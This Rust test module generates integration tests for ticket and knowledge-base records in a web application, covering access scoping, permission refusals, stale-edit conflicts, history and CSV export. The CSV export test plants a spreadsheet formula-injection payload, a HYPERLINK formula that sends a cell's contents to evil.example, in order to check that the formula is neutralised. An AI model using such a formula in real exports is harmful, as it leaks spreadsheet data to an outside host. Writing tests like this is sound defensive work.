//! The generated suite for records whose life differs from the catalogue's
//! (tickets, knowledge-base articles): no fixture rows (each test writes its
//! own through the API), someone who sees a record without the right to work
//! it, and properties that apply only to some types (a ticket is never
//! deleted; anyone may open one). A type describes itself in a
//! [`RecordSpec`] and lists, in `record_suite!`, the properties it has: one
//! test is generated per property.

use axum::http::{Method, StatusCode};
use serde_json::{Value, json};
use uuid::Uuid;

use crate::{
    helpers::TestApp,
    resources::{Ids, ids, pairs, urlencode},
};

/// What the suite needs to know about one record type.
pub struct RecordSpec {
    /// Pages under `/{pages}`, API under `/api/v1/{api}`.
    pub pages: &'static str,
    pub api: &'static str,
    /// Name in the history table.
    pub kind: &'static str,
    pub table: &'static str,
    /// The field a record is named by in forms, JSON and its table.
    pub name_field: &'static str,
    /// A field the form cannot do without.
    pub required: &'static str,
    /// Works the records of subsidiary A: sees, creates, changes them.
    pub manager: &'static str,
    /// Works the records of subsidiary B: writes the one the manager must not see.
    pub other_manager: &'static str,
    /// Sees the visible record (its requester, its reader) without any right to work it.
    pub bystander: &'static str,
    /// The record the manager writes before each test, and the one of subsidiary B.
    pub visible: &'static str,
    pub hidden: &'static str,
    /// A word of `visible` (not of `hidden`) the list's search finds.
    pub word: &'static str,
    /// A value of the form, besides the name, that must come back when the form is refused.
    pub kept: &'static str,
    /// Form fields of a valid new record named `name` in subsidiary A.
    pub form: fn(&Ids, &str) -> Vec<(String, String)>,
    /// JSON of a valid new record named `name` in subsidiary A (the bystander sees it).
    pub body: fn(&Ids, &str) -> Value,
    /// The same in subsidiary B.
    pub body_b: fn(&Ids, &str) -> Value,
    /// Who writes, and how, a record the manager sees though it lies outside
    /// their scope (an article for everyone of the group above, a ticket they
    /// asked for in another subsidiary): named "Shared record".
    pub shared: (&'static str, fn(&Ids, &str) -> Value),
    /// Every sort key of the list.
    pub sorts: &'static [&'static str],
    /// Filters (placeholders as in [`fill`]) and whether the visible record passes each.
    pub filters: &'static [(&'static str, bool)],
    /// Pages under `/{pages}` the bystander may not open (`{id}`: the visible record).
    pub refused_pages: &'static [&'static str],
    /// Forms under `/{pages}` the bystander may not post.
    pub refused_posts: &'static [&'static str],
    /// API calls under `/api/v1/{api}` the bystander may not make: method, path, JSON body.
    pub refused_api: &'static [(&'static str, &'static str, &'static str)],
    /// Page and API paths of one record (after `/{id}`): out of scope answers like missing.
    pub page_suffixes: &'static [&'static str],
    pub api_suffixes: &'static [&'static str],
    /// Records are deleted (with a confirmation page); tickets never are.
    pub deletable: bool,
}

/// The fixture ids a filter or a path names: `{a}` subsidiary A, `{tc}` the
/// "Poste de travail" ticket category, `{g}` the group "Equipe A", `{u}`
/// tech_a, `{id}` the record.
fn fill(text: &str, ids: &Ids, record: Uuid) -> String {
    text.replace("{a}", &ids.entity_a.to_string())
        .replace("{tc}", &ids.ticket_category.to_string())
        .replace("{g}", &ids.group.to_string())
        .replace("{u}", &ids.technician.to_string())
        .replace("{id}", &record.to_string())
}

/// A test's world: the app, the fixture ids, the visible, hidden and shared records.
struct World {
    app: TestApp,
    ids: Ids,
    visible: Uuid,
    hidden: Uuid,
}

async fn create(app: &TestApp, spec: &RecordSpec, login: &str, body: Value) -> Value {
    let token = app.token(login).await;
    let created = app.api(Some(&token), Method::POST, &format!("/api/v1/{}", spec.api), Some(body)).await;
    assert_eq!(created.status, StatusCode::CREATED, "{login} writes a {}: {}", spec.kind, created.body);
    created.json()
}

fn id_in(object: &Value) -> Uuid {
    object["id"].as_str().and_then(|id| id.parse().ok()).expect("an id")
}

async fn world(spec: &RecordSpec) -> World {
    let app = TestApp::new().await;
    let ids = ids(&app).await;
    let visible = id_in(&create(&app, spec, spec.manager, (spec.body)(&ids, spec.visible)).await);
    let hidden = id_in(&create(&app, spec, spec.other_manager, (spec.body_b)(&ids, spec.hidden)).await);
    let (author, shared) = spec.shared;
    create(&app, spec, author, shared(&ids, SHARED)).await;
    World { app, ids, visible, hidden }
}

const SHARED: &str = "Shared record";

async fn count_named(app: &TestApp, spec: &RecordSpec, pattern: &str) -> i64 {
    sqlx::query_scalar(&format!("select count(*) from {} where {} like $1", spec.table, spec.name_field))
        .bind(pattern)
        .fetch_one(&app.pool)
        .await
        .expect("count")
}

async fn stored_name(app: &TestApp, spec: &RecordSpec, id: Uuid) -> String {
    sqlx::query_scalar(&format!("select {} from {} where id = $1", spec.name_field, spec.table))
        .bind(id)
        .fetch_one(&app.pool)
        .await
        .expect("stored")
}

fn method(name: &str) -> Method {
    Method::from_bytes(name.as_bytes()).expect("a method")
}

pub async fn list_shows_only_the_scope(spec: &RecordSpec) {
    let w = world(spec).await;
    let session = w.app.login(spec.manager).await;
    let page = session.get(&format!("/{}", spec.pages)).await;
    page.assert_status(StatusCode::OK);
    let cells = page.texts("table.list td").join("|");
    assert!(cells.contains(spec.visible), "{} missing from {cells}", spec.visible);
    assert!(!cells.contains(spec.hidden), "{} leaked into {cells}", spec.hidden);
    assert!(cells.contains(SHARED), "what the manager may see beyond their scope is listed: {cells}");
    let token = w.app.token(spec.manager).await;
    let api = w.app.api(Some(&token), Method::GET, &format!("/api/v1/{}?per_page=200", spec.api), None).await;
    api.assert_status(StatusCode::OK);
    let listed = api.json()["items"].to_string();
    assert!(listed.contains(spec.visible) && listed.contains(SHARED) && !listed.contains(spec.hidden), "{listed}");
    assert_eq!(api.json()["total"].as_i64(), api.json()["items"].as_array().map(|a| a.len() as i64));
    // The other side sees its own record and not ours.
    let other = w.app.token(spec.other_manager).await;
    let theirs = w.app.api(Some(&other), Method::GET, &format!("/api/v1/{}?per_page=200", spec.api), None).await;
    let listed = theirs.json()["items"].to_string();
    assert!(listed.contains(spec.hidden) && !listed.contains(spec.visible), "{listed}");
}

pub async fn list_search_sort_and_pages(spec: &RecordSpec) {
    let w = world(spec).await;
    create(&w.app, spec, spec.manager, (spec.body)(&w.ids, "Second record")).await;
    let session = w.app.login(spec.manager).await;
    let found = session.get(&format!("/{}?q={}", spec.pages, urlencode(spec.word))).await;
    found.assert_status(StatusCode::OK);
    let cells = found.texts("table.list td").join("|");
    assert!(cells.contains(spec.visible) && !cells.contains("Second record"), "{cells}");
    let nothing = session.get(&format!("/{}?q=zzzz-no-such-thing", spec.pages)).await;
    assert!(nothing.has(".empty"), "an empty search says so");
    let token = w.app.token(spec.manager).await;
    let api =
        w.app.api(Some(&token), Method::GET, &format!("/api/v1/{}?q={}", spec.api, urlencode(spec.word)), None).await;
    assert_eq!(api.json()["total"], 1, "{}", api.body);
    for dir in ["asc", "desc"] {
        session.get(&format!("/{}?sort={}&dir={dir}", spec.pages, spec.name_field)).await.assert_status(StatusCode::OK);
    }
    session.get(&format!("/{}?sort=password_hash", spec.pages)).await.assert_status(StatusCode::BAD_REQUEST);
    w.app
        .api(Some(&token), Method::GET, &format!("/api/v1/{}?sort=password_hash", spec.api), None)
        .await
        .assert_status(StatusCode::BAD_REQUEST);
    // One record per page: the pages walk the sorted list, each record once.
    let all = format!("/api/v1/{}?per_page=200&sort={}&dir=asc", spec.api, spec.name_field);
    let all = w.app.api(Some(&token), Method::GET, &all, None).await.json();
    let name = |v: &Value| v[spec.name_field].as_str().unwrap_or_default().to_owned();
    let sorted: Vec<String> = all["items"].as_array().expect("items").iter().map(name).collect();
    assert_eq!(sorted.len(), 3, "visible, second and shared: {sorted:?}");
    assert!(sorted.is_sorted(), "sorted by name: {sorted:?}");
    for (n, expected) in sorted.iter().enumerate() {
        let path = format!("/api/v1/{}?per_page=1&page={}&sort={}&dir=asc", spec.api, n + 1, spec.name_field);
        let page = w.app.api(Some(&token), Method::GET, &path, None).await.json();
        assert_eq!(page["page"].as_u64(), Some(n as u64 + 1));
        assert_eq!(page["total"].as_u64(), Some(3));
        let items = page["items"].as_array().expect("items");
        assert_eq!(items.iter().map(name).collect::<Vec<_>>(), std::slice::from_ref(expected), "page {}", n + 1);
    }
}

pub async fn every_sort_and_filter_runs(spec: &RecordSpec) {
    let w = world(spec).await;
    let token = w.app.token(spec.manager).await;
    let session = w.app.login(spec.manager).await;
    for sort in spec.sorts {
        for dir in ["asc", "desc"] {
            let query = format!("sort={sort}&dir={dir}");
            let api = w.app.api(Some(&token), Method::GET, &format!("/api/v1/{}?{query}", spec.api), None).await;
            api.assert_status(StatusCode::OK);
            assert!(api.body.contains(spec.visible), "sorting by {sort} keeps the rows");
            session.get(&format!("/{}?{query}", spec.pages)).await.assert_status(StatusCode::OK);
            session.get(&format!("/{}/export.csv?{query}", spec.pages)).await.assert_status(StatusCode::OK);
        }
    }
    for (filter, passes) in spec.filters {
        let query = fill(filter, &w.ids, w.visible);
        let api =
            w.app.api(Some(&token), Method::GET, &format!("/api/v1/{}?{query}&per_page=200", spec.api), None).await;
        api.assert_status(StatusCode::OK);
        let listed = api.json()["items"].to_string();
        assert_eq!(listed.contains(spec.visible), *passes, "{query}: {listed}");
        let page = session.get(&format!("/{}?{query}", spec.pages)).await;
        page.assert_status(StatusCode::OK);
        assert_eq!(page.texts("table.list td").join("|").contains(spec.visible), *passes, "page {query}");
    }
    // A value a filter cannot take is a 400, on the page and in the API.
    for (filter, _) in spec.filters {
        let key = filter.split('=').next().unwrap_or_default();
        let query = format!("{key}=bogus%27value");
        let api = w.app.api(Some(&token), Method::GET, &format!("/api/v1/{}?{query}", spec.api), None).await;
        api.assert_status(StatusCode::BAD_REQUEST);
        session.get(&format!("/{}?{query}", spec.pages)).await.assert_status(StatusCode::BAD_REQUEST);
    }
}

pub async fn no_right_means_403_everywhere(spec: &RecordSpec) {
    let w = world(spec).await;
    let session = w.app.login(spec.bystander).await;
    session.get(&format!("/{}/{}", spec.pages, w.visible)).await.assert_status(StatusCode::OK);
    for path in spec.refused_pages {
        let path = format!("/{}{}", spec.pages, fill(path, &w.ids, w.visible));
        session.get(&path).await.assert_status(StatusCode::FORBIDDEN);
    }
    for path in spec.refused_posts {
        let path = format!("/{}{}", spec.pages, fill(path, &w.ids, w.visible));
        let fields = (spec.form)(&w.ids, "Bystander Change");
        let response = session.post(&path, &pairs(&fields)).await;
        assert_eq!(response.status, StatusCode::FORBIDDEN, "POST {path}");
    }
    let token = w.app.token(spec.bystander).await;
    for (verb, path, body) in spec.refused_api {
        let path = format!("/api/v1/{}{}", spec.api, fill(path, &w.ids, w.visible));
        let body = (!body.is_empty()).then(|| serde_json::from_str(body).expect("JSON body"));
        let response = w.app.api(Some(&token), method(verb), &path, body).await;
        assert_eq!(response.status, StatusCode::FORBIDDEN, "{verb} {path}: {}", response.body);
        assert_eq!(response.header("content-type"), "application/problem+json");
    }
    assert_eq!(stored_name(&w.app, spec, w.visible).await, spec.visible, "nothing changed");
    let history = w.app.history(spec.kind, w.visible).await;
    assert_eq!(history, [("create".into(), spec.manager.into(), "api".into())], "nothing written");
    // Without logging in: the login page for pages, 401 for the API.
    let anonymous = w.app.get(&format!("/{}", spec.pages)).await;
    anonymous.assert_status(StatusCode::SEE_OTHER);
    assert_eq!(anonymous.location(), format!("/login?next=%2F{}", spec.pages));
    w.app.api(None, Method::GET, &format!("/api/v1/{}", spec.api), None).await.assert_status(StatusCode::UNAUTHORIZED);
}

pub async fn out_of_scope_is_a_missing_object(spec: &RecordSpec) {
    let w = world(spec).await;
    let missing = Uuid::now_v7();
    let session = w.app.login(spec.manager).await;
    for suffix in spec.page_suffixes {
        let outside = session.get(&format!("/{}/{}{suffix}", spec.pages, w.hidden)).await;
        let absent = session.get(&format!("/{}/{missing}{suffix}", spec.pages)).await;
        outside.assert_status(StatusCode::NOT_FOUND);
        absent.assert_status(StatusCode::NOT_FOUND);
        // Each page names its own path (the language form returns to it); nothing else differs.
        let outside_body = outside.without_request_id().replace(&w.hidden.to_string(), "ID");
        let absent_body = absent.without_request_id().replace(&missing.to_string(), "ID");
        assert_eq!(outside_body, absent_body, "{suffix}");
    }
    session.get(&format!("/{}/not-a-uuid", spec.pages)).await.assert_status(StatusCode::NOT_FOUND);
    let token = w.app.token(spec.manager).await;
    for suffix in spec.api_suffixes {
        let get = |id: Uuid| format!("/api/v1/{}/{id}{suffix}", spec.api);
        let outside = w.app.api(Some(&token), Method::GET, &get(w.hidden), None).await;
        let absent = w.app.api(Some(&token), Method::GET, &get(missing), None).await;
        outside.assert_status(StatusCode::NOT_FOUND);
        assert_eq!(outside.body, absent.body, "API bodies must not tell them apart ({suffix})");
    }
    let patch = json!({"version": 1, spec.name_field: "Changed From Outside"});
    let path = format!("/api/v1/{}/{}", spec.api, w.hidden);
    w.app.api(Some(&token), Method::PATCH, &path, Some(patch)).await.assert_status(StatusCode::NOT_FOUND);
    let fields = (spec.form)(&w.ids, "Changed From Outside");
    let post = session.post(&format!("/{}/{}/edit", spec.pages, w.hidden), &pairs(&fields)).await;
    post.assert_status(StatusCode::NOT_FOUND);
    if spec.deletable {
        w.app.api(Some(&token), Method::DELETE, &path, None).await.assert_status(StatusCode::NOT_FOUND);
        let post = session.post(&format!("/{}/{}/delete", spec.pages, w.hidden), &[]).await;
        post.assert_status(StatusCode::NOT_FOUND);
    }
    assert_eq!(stored_name(&w.app, spec, w.hidden).await, spec.hidden);
    let history = w.app.history(spec.kind, w.hidden).await;
    assert_eq!(history, [("create".into(), spec.other_manager.into(), "api".into())], "nothing written");
}

pub async fn create_writes_the_row_and_its_history(spec: &RecordSpec) {
    let w = world(spec).await;
    let session = w.app.login(spec.manager).await;
    let fields = (spec.form)(&w.ids, "Created By Form");
    let created = session.post(&format!("/{}", spec.pages), &pairs(&fields)).await;
    created.assert_status(StatusCode::SEE_OTHER);
    let id: Uuid = sqlx::query_scalar(&format!("select id from {} where {} = $1", spec.table, spec.name_field))
        .bind("Created By Form")
        .fetch_one(&w.app.pool)
        .await
        .expect("the new row");
    assert_eq!(created.location(), format!("/{}/{id}", spec.pages));
    let shown = session.get(created.location()).await;
    assert!(shown.body.contains("Created By Form") && shown.has(".flash-success"));
    assert!(shown.body.contains(spec.kept), "the other values were saved too");
    assert_eq!(w.app.history(spec.kind, id).await, [("create".into(), spec.manager.into(), "web".into())]);
}

pub async fn reader_cannot_create(spec: &RecordSpec) {
    let w = world(spec).await;
    let session = w.app.login(spec.bystander).await;
    session.get(&format!("/{}/new", spec.pages)).await.assert_status(StatusCode::FORBIDDEN);
    let fields = (spec.form)(&w.ids, "Not Allowed");
    session.post(&format!("/{}", spec.pages), &pairs(&fields)).await.assert_status(StatusCode::FORBIDDEN);
    let token = w.app.token(spec.bystander).await;
    let body = (spec.body)(&w.ids, "Not Allowed Either");
    w.app
        .api(Some(&token), Method::POST, &format!("/api/v1/{}", spec.api), Some(body))
        .await
        .assert_status(StatusCode::FORBIDDEN);
    assert_eq!(count_named(&w.app, spec, "Not Allowed%").await, 0);
}

pub async fn bad_values_come_back_marked_and_kept(spec: &RecordSpec) {
    let w = world(spec).await;
    let session = w.app.login(spec.manager).await;
    let mut fields = (spec.form)(&w.ids, "Refused Record");
    let long = "x".repeat(100_000);
    for value in ["", "   ", long.as_str()] {
        for field in fields.iter_mut().filter(|(k, _)| k == spec.required) {
            field.1 = value.to_owned();
        }
        let page = session.post(&format!("/{}", spec.pages), &pairs(&fields)).await;
        page.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
        let marked = format!(".field.has-error #f-{}[aria-invalid=true]", spec.required);
        assert!(page.has(&marked), "{marked} in {}", page.body);
        assert!(page.has(".field-error"));
        assert!(page.body.contains(spec.kept), "the other values are kept");
    }
    // An entity out of the person's scope: refused as an invalid choice, nothing written.
    let mut outside = (spec.form)(&w.ids, "Smuggled");
    for field in outside.iter_mut().filter(|(k, _)| k == "entity_id") {
        field.1 = w.ids.entity_b.to_string();
    }
    let refused = session.post(&format!("/{}", spec.pages), &pairs(&outside)).await;
    refused.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    assert!(refused.has(".field.has-error #f-entity_id[aria-invalid=true]"), "{}", refused.body);
    assert!(refused.body.contains("Smuggled"), "the input is kept");
    assert_eq!(count_named(&w.app, spec, "Smuggled").await + count_named(&w.app, spec, "Refused%").await, 0);
}

/// The fields of the first `form.form` of a page, as a browser would post them.
fn form_fields(body: &str) -> Vec<(String, String)> {
    let document = scraper::Html::parse_document(body);
    let selector = scraper::Selector::parse("form.form input, form.form select, form.form textarea").expect("selector");
    let selected = scraper::Selector::parse("option[selected]").expect("selector");
    document
        .select(&selector)
        .filter_map(|e| {
            let name = e.value().attr("name")?.to_owned();
            let value = match e.value().name() {
                "select" => {
                    e.select(&selected).next().and_then(|o| o.value().attr("value")).unwrap_or_default().to_owned()
                }
                "textarea" => e.text().collect(),
                _ if e.value().attr("type") == Some("checkbox") => {
                    e.value().attr("checked")?;
                    "on".into()
                }
                _ => e.value().attr("value").unwrap_or_default().to_owned(),
            };
            Some((name, value))
        })
        .filter(|(name, _)| name != "_csrf")
        .collect()
}

pub async fn stale_edit_is_refused_naming_who(spec: &RecordSpec) {
    let w = world(spec).await;
    let session = w.app.login(spec.manager).await;
    let form = session.get(&format!("/{}/{}/edit", spec.pages, w.visible)).await;
    form.assert_status(StatusCode::OK);
    let mut fields = form_fields(&form.body);
    // A colleague saves first, through the API.
    let version: i64 =
        fields.iter().find(|(k, _)| k == "version").and_then(|(_, v)| v.parse().ok()).expect("version field");
    let other = w.app.token("admin").await;
    let path = format!("/api/v1/{}/{}", spec.api, w.visible);
    let patched = w
        .app
        .api(
            Some(&other),
            Method::PATCH,
            &path,
            Some(json!({"version": version, spec.name_field: "Renamed By Colleague"})),
        )
        .await;
    patched.assert_status(StatusCode::OK);
    // Our stale form is refused, keeps what we typed, and says who changed it.
    for field in fields.iter_mut().filter(|(k, _)| k == spec.name_field) {
        field.1 = "Our Late Edit".into();
    }
    let refused = session.post(&format!("/{}/{}/edit", spec.pages, w.visible), &pairs(&fields)).await;
    refused.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    let notice = refused.texts("[data-testid=notice]").join(" ");
    assert!(notice.contains("admin"), "names the colleague: {notice}");
    assert!(refused.body.contains("Our Late Edit"), "keeps the input");
    assert_eq!(stored_name(&w.app, spec, w.visible).await, "Renamed By Colleague");
    // Sent again from the fresh version, it goes through.
    let fresh = form_fields(&session.get(&format!("/{}/{}/edit", spec.pages, w.visible)).await.body);
    let mut again = fresh.clone();
    for field in again.iter_mut().filter(|(k, _)| k == spec.name_field) {
        field.1 = "Our Late Edit".into();
    }
    session
        .post(&format!("/{}/{}/edit", spec.pages, w.visible), &pairs(&again))
        .await
        .assert_status(StatusCode::SEE_OTHER);
    assert_eq!(stored_name(&w.app, spec, w.visible).await, "Our Late Edit");
}

pub async fn delete_asks_first_and_keeps_history(spec: &RecordSpec) {
    let w = world(spec).await;
    let id = w.visible;
    let session = w.app.login(spec.manager).await;
    let confirm = session.get(&format!("/{}/{id}/delete", spec.pages)).await;
    confirm.assert_status(StatusCode::OK);
    assert!(confirm.has(".danger-zone form"), "asks before deleting");
    assert_eq!(w.app.history(spec.kind, id).await.len(), 1, "a GET deletes nothing");
    let deleted = session.post(&format!("/{}/{id}/delete", spec.pages), &[]).await;
    deleted.assert_status(StatusCode::SEE_OTHER);
    assert_eq!(deleted.location(), format!("/{}", spec.pages));
    session.get(&format!("/{}/{id}", spec.pages)).await.assert_status(StatusCode::NOT_FOUND);
    let history = w.app.history(spec.kind, id).await;
    assert_eq!(
        history.last().map(|h| (h.0.as_str(), h.1.as_str(), h.2.as_str())),
        Some(("delete", spec.manager, "web"))
    );
}

pub async fn history_tab_shows_old_and_new(spec: &RecordSpec) {
    let w = world(spec).await;
    let token = w.app.token(spec.manager).await;
    let path = format!("/api/v1/{}/{}", spec.api, w.visible);
    let current = w.app.api(Some(&token), Method::GET, &path, None).await.json();
    let version = current["version"].as_i64().expect("version");
    w.app
        .api(Some(&token), Method::PATCH, &path, Some(json!({"version": version, spec.name_field: "Renamed Once"})))
        .await
        .assert_status(StatusCode::OK);
    let session = w.app.login(spec.manager).await;
    let tab = session.get(&format!("/{}/{}/history", spec.pages, w.visible)).await;
    tab.assert_status(StatusCode::OK);
    assert!(tab.texts("table.history .old").iter().any(|t| t == spec.visible), "old value shown");
    assert!(tab.texts("table.history .new").iter().any(|t| t == "Renamed Once"), "new value shown");
    assert!(tab.texts("table.history td").iter().any(|t| t.starts_with(spec.manager)), "who");
    let api = w.app.api(Some(&token), Method::GET, &format!("{path}/history"), None).await;
    api.assert_status(StatusCode::OK);
    let newest = &api.json()[0];
    assert_eq!(newest["actor_label"], spec.manager);
    assert_eq!(newest["source"], "api");
    assert_eq!(newest["changes"][spec.name_field], json!({"old": spec.visible, "new": "Renamed Once"}));
}

pub async fn csv_is_scoped_and_neutralised(spec: &RecordSpec) {
    let w = world(spec).await;
    let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    create(&w.app, spec, spec.manager, (spec.body)(&w.ids, payload)).await;
    let session = w.app.login(spec.manager).await;
    let csv = session.get(&format!("/{}/export.csv?sort={}&dir=desc", spec.pages, spec.name_field)).await;
    csv.assert_status(StatusCode::OK);
    assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
    assert!(csv.header("content-disposition").starts_with("attachment"));
    assert_eq!(csv.header("x-content-type-options"), "nosniff");
    assert!(csv.body.contains(spec.visible) && !csv.body.contains(spec.hidden), "scoped: {}", csv.body);
    assert!(csv.body.contains(SHARED), "the export has what the list shows: {}", csv.body);
    assert!(csv.body.contains("\"'=HYPERLINK("), "formula neutralised: {}", csv.body);
    assert!(!csv.body.lines().any(|line| line.starts_with('=') || line.contains(",=")));
    let rows = csv.body.lines().count() - 1;
    let token = w.app.token(spec.manager).await;
    let listed =
        w.app.api(Some(&token), Method::GET, &format!("/api/v1/{}", spec.api), None).await.json()["total"].as_u64();
    assert_eq!(Some(rows as u64), listed, "the export has the list's rows");
}

pub async fn api_create_change_and_conflicts(spec: &RecordSpec) {
    let w = world(spec).await;
    let token = w.app.token(spec.manager).await;
    let base = format!("/api/v1/{}", spec.api);
    let object = create(&w.app, spec, spec.manager, (spec.body)(&w.ids, "Made By Api")).await;
    let id = id_in(&object);
    assert_eq!(object[spec.name_field], "Made By Api");
    let version = object["version"].as_i64().expect("version");
    let path = format!("{base}/{id}");
    let written = w.app.history(spec.kind, id).await.len();

    // Server-owned fields and unknown fields are refused, not ignored silently.
    for extra in
        [json!({"id": Uuid::now_v7()}), json!({"created_at": "2020-01-01T00:00:00Z"}), json!({"role": "admin"})]
    {
        let mut body = (spec.body)(&w.ids, "Extra Field");
        if let (Some(target), Some(source)) = (body.as_object_mut(), extra.as_object()) {
            target.extend(source.clone());
        }
        let refused = w.app.api(Some(&token), Method::POST, &base, Some(body)).await;
        refused.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(refused.header("content-type"), "application/problem+json");
    }
    assert_eq!(count_named(&w.app, spec, "Extra Field").await, 0);
    // No version: 428. Right version: 200. Same version again: 409 naming who.
    w.app
        .api(Some(&token), Method::PATCH, &path, Some(json!({spec.name_field: "No Version"})))
        .await
        .assert_status(StatusCode::PRECONDITION_REQUIRED);
    let changed = w
        .app
        .api(Some(&token), Method::PATCH, &path, Some(json!({"version": version, spec.name_field: "Changed By Api"})))
        .await;
    changed.assert_status(StatusCode::OK);
    assert_eq!(changed.json()["version"], version + 1);
    assert_eq!(changed.json()[spec.name_field], "Changed By Api");
    let stale = w
        .app
        .api(Some(&token), Method::PATCH, &path, Some(json!({"version": version, spec.name_field: "Stale Change"})))
        .await;
    stale.assert_status(StatusCode::CONFLICT);
    assert_eq!(stale.json()["type"], "urn:parc:problem:stale-edit");
    assert!(stale.json()["detail"].as_str().is_some_and(|d| d.contains(spec.manager)));
    // If-Match works as the version too.
    let request = axum::http::Request::patch(&path)
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", "application/json")
        .header("if-match", format!("\"{}\"", version + 1))
        .body(axum::body::Body::from(json!({spec.name_field: "Via If-Match"}).to_string()))
        .expect("request");
    w.app.send(request).await.assert_status(StatusCode::OK);
    let now = version + 2;
    // Wrong type: 422 problem. A blank required field: 422 naming the field.
    let wrong = w.app.api(Some(&token), Method::PATCH, &path, Some(json!({"version": now, spec.name_field: 42}))).await;
    wrong.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    let blank = w.app.api(Some(&token), Method::PATCH, &path, Some(json!({"version": now, spec.required: " "}))).await;
    blank.assert_status(StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(blank.json()["errors"][0]["field"], spec.required);
    assert_eq!(blank.json()["errors"][0]["code"], "field-required");
    assert_eq!(stored_name(&w.app, spec, id).await, "Via If-Match");

    let history = w.app.history(spec.kind, id).await;
    assert_eq!(history.len(), written + 2, "two changes: {history:?}");
    assert!(history.iter().all(|(_, who, source)| who == spec.manager && source == "api"));
    if spec.deletable {
        w.app.api(Some(&token), Method::DELETE, &path, None).await.assert_status(StatusCode::NO_CONTENT);
        w.app.api(Some(&token), Method::GET, &path, None).await.assert_status(StatusCode::NOT_FOUND);
    } else {
        // Nothing deletes it: the route does not exist, the record stays.
        let delete = w.app.api(Some(&token), Method::DELETE, &path, None).await;
        assert_eq!(delete.status, StatusCode::METHOD_NOT_ALLOWED, "{}", delete.body);
        w.app.api(Some(&token), Method::GET, &path, None).await.assert_status(StatusCode::OK);
    }
}

/// Generates one `#[tokio::test]` per property listed for a type.
#[macro_export]
macro_rules! record_suite {
    ($module:ident, $spec:expr, [$($property:ident),+ $(,)?]) => {
        mod $module {
            use $crate::records::*;
            const SPEC: RecordSpec = $spec;
            $(
                #[tokio::test]
                async fn $property() {
                    super::records::$property(&SPEC).await;
                }
            )+
        }
    };
}
